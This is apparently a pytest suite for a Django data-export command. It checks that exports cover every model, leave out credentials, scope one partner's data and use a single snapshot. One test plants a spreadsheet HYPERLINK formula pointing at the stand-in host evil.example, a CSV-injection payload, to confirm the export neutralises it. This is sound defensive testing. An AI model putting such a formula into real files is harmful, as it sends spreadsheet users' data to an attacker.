"""`manage.py export_data`: the whole program as CSV and JSON Lines files, one of each per
model, with an index; nothing a spreadsheet would run, and no credential."""

import csv
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from allauth.mfa.models import Authenticator
from django.apps import apps
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from deals.models import ConflictCase, Deal
from incentives.models import LedgerEntry
from partners.models import ApiToken, Partner
from prm.data_export import (
    OTHER_PARTNERS_FIELDS,
    PROJECT_APPS,
    SKIPPED_FIELDS,
    SKIPPED_MODELS,
    export_data,
    exported_fields,
    exported_models,
    model_label,
)
from tests.factories import (
    STAFF_TOTP_SECRET,
    ConflictCaseFactory,
    DealFactory,
    LedgerEntryFactory,
    ProductFactory,
    WonDealFactory,
)

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
# Names of fields that hold a credential; none may be exported.
CREDENTIAL = re.compile(r"password|secret|token|digest|salt|hash|otp|recovery", re.IGNORECASE)


@pytest.fixture
def program(manager, partner_a, partner_b, a_admin, b_admin):
    """Two partners' deals, products, ledger entries and a conflict case; a partner named
    like a formula; an API token; a manager with two-factor sign-in (StaffFactory)."""
    partner_a.name = FORMULA
    partner_a.save()
    products = ProductFactory.create_batch(2)
    for partner in (partner_a, partner_b):
        WonDealFactory(partner=partner).products.set(products)
        DealFactory(partner=partner)
        LedgerEntryFactory.create_batch(2, partner=partner, amount=Decimal("1234.50"))
    other = DealFactory(partner=partner_b)
    ConflictCaseFactory(partner=partner_a, other_partner=partner_b, other_deal=other)
    _, token = ApiToken.objects.create(user=a_admin, client="CRM sync")
    return token


def files_of(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def csv_rows(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def json_rows(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.mark.django_db
def test_every_model_is_exported_with_its_rows(program, tmp_path):
    out = tmp_path / "export"
    call_command("export_data", output=str(out))
    index = json.loads((out / "index.json").read_text())
    listed = {entry["model"]: entry for entry in index["models"]}
    every = {
        model_label(model): model
        for label in PROJECT_APPS
        for model in apps.get_app_config(label).get_models(include_auto_created=True)
    }
    # A new model is exported, or skipped with its reason written down.
    assert set(every) == set(listed) | set(SKIPPED_MODELS), (
        "a model is neither exported nor in SKIPPED_MODELS"
    )
    assert not set(listed) & set(SKIPPED_MODELS)
    for label, entry in listed.items():
        model = every[label]
        assert entry["files"] == {"csv": f"{label}.csv", "json": f"{label}.jsonl"}
        count = model._default_manager.count()
        assert entry["rows"] == count, label
        assert len(csv_rows(out / entry["files"]["csv"])) == count, label
        assert len(json_rows(out / entry["files"]["json"])) == count, label
        names = [field["name"] for field in entry["fields"]]
        assert names == [f.attname for f in exported_fields(model)]
    assert listed["deals.Deal"]["rows"] == 6
    assert listed["deals.Deal_products"]["rows"] == 4
    assert {"name": "partner_id", "type": "ForeignKey", "null": False} | {
        "references": "partners.Partner"
    } in listed["deals.Deal"]["fields"]
    assert index["skipped_models"] == SKIPPED_MODELS


@pytest.mark.django_db
def test_values_are_portable(program, tmp_path, partner_a):
    export_data(tmp_path)
    entries = json_rows(tmp_path / "incentives.LedgerEntry.jsonl")
    entry = LedgerEntry.objects.order_by("pk").first()
    first = entries[0]
    assert first["amount"] == "1234.50"  # decimals as strings: no float in between
    assert first["partner_id"] == entry.partner_id  # keys as ids
    assert first["earned_on"] == entry.earned_on.isoformat()
    assert csv_rows(tmp_path / "incentives.LedgerEntry.csv")[0]["amount"] == "1234.50"
    deal = Deal.objects.order_by("pk").first()
    submitted = json_rows(tmp_path / "deals.Deal.jsonl")[0]["submitted_at"]
    assert submitted == deal.submitted_at.isoformat() and submitted.endswith("+00:00")


@pytest.mark.django_db
def test_a_formula_is_text_in_the_csv_and_intact_in_the_json(program, tmp_path, partner_a):
    export_data(tmp_path)
    by_id = {row["id"]: row for row in csv_rows(tmp_path / "partners.Partner.csv")}
    assert by_id[str(partner_a.pk)]["name"] == "'" + FORMULA
    for row in by_id.values():
        assert not row["name"].startswith(("=", "+", "-", "@"))
    by_id = {row["id"]: row for row in json_rows(tmp_path / "partners.Partner.jsonl")}
    assert by_id[partner_a.pk]["name"] == FORMULA


@pytest.mark.django_db
def test_no_credential_is_exported(program, tmp_path, a_admin, manager):
    export_data(tmp_path)
    token = ApiToken.objects.get(user=a_admin)
    secrets = [
        a_admin.password,  # the password hash
        manager.password,
        token.digest,
        program,  # the token itself
        STAFF_TOTP_SECRET,
        *(
            code
            for auth in Authenticator.objects.filter(user=manager)
            for code in auth.data.get("migrated_codes", []) + [auth.data.get("seed", "")]
            if code
        ),
    ]
    assert a_admin.password and token.digest
    for name, content in files_of(tmp_path).items():
        text = content.decode()
        for secret in secrets:
            assert secret not in text, f"{name} holds a credential"
    assert not (tmp_path / "partners.ApiToken.csv").exists()
    users = csv_rows(tmp_path / "partners.User.csv")
    assert "password" not in users[0] and users[0]["username"]
    # A new field named like a credential must be skipped (or renamed).
    for model in exported_models():
        for f in exported_fields(model):
            assert not CREDENTIAL.search(f.name), f"{model_label(model)}.{f.name} is exported"


@pytest.mark.django_db
def test_one_partners_export_holds_only_its_rows(program, tmp_path, partner_a, partner_b):
    call_command("export_data", output=str(tmp_path), partner=partner_a.pk, format="json")
    assert not list(tmp_path.glob("*.csv"))
    assert [row["id"] for row in json_rows(tmp_path / "partners.Partner.jsonl")] == [partner_a.pk]
    deals = json_rows(tmp_path / "deals.Deal.jsonl")
    assert {row["partner_id"] for row in deals} == {partner_a.pk} and len(deals) == 3
    assert len(json_rows(tmp_path / "deals.Deal_products.jsonl")) == 2
    users = json_rows(tmp_path / "partners.User.jsonl")
    assert [row["username"] for row in users] == ["alice"]
    # A conflict case never says who the other partner is.
    (case,) = json_rows(tmp_path / "deals.ConflictCase.jsonl")
    assert case["id"] == ConflictCase.objects.get().pk
    assert not {f"{name}_id" for name in OTHER_PARTNERS_FIELDS} & set(case)
    assert str(partner_b.pk) not in json.dumps([row["partner_id"] for row in deals])
    index = json.loads((tmp_path / "index.json").read_text())
    assert "partners.Program" in index["not_about_one_partner"]
    assert not (tmp_path / "partners.Program.jsonl").exists()


@pytest.mark.django_db
def test_refusals(tmp_path, partner_a):
    from django.core.management.base import CommandError

    (tmp_path / "old.csv").write_text("x")
    with pytest.raises(CommandError, match="not empty"):
        call_command("export_data", output=str(tmp_path))
    with pytest.raises(CommandError, match="--format"):
        call_command("export_data", output=str(tmp_path / "new"), format="xml")
    with pytest.raises(CommandError, match="no partner"):
        call_command("export_data", output=str(tmp_path / "new"), partner=partner_a.pk + 1000)


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("program_data")
def test_the_export_reads_one_snapshot(tmp_path):
    """Its own transaction, REPEATABLE READ and READ ONLY from the first statement: every
    file shows the same moment, and it runs behind PgBouncer in transaction mode."""
    with CaptureQueriesContext(connection) as queries:
        export_data(tmp_path, formats=["json"])
    statements = [query["sql"] for query in queries.captured_queries]
    assert statements[:2] == ["BEGIN", "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY"]
    assert Partner.objects.count() == 0 or (tmp_path / "partners.Partner.jsonl").exists()


def test_the_docs_and_the_help_name_what_is_skipped():
    from prm.management.commands.export_data import Command

    docs = (ROOT / "docs" / "deploy.md").read_text()
    help_text = Command().help
    for label in [*SKIPPED_MODELS, *SKIPPED_FIELDS]:
        assert label in docs, f"docs/deploy.md does not say {label} is skipped"
        assert label in help_text
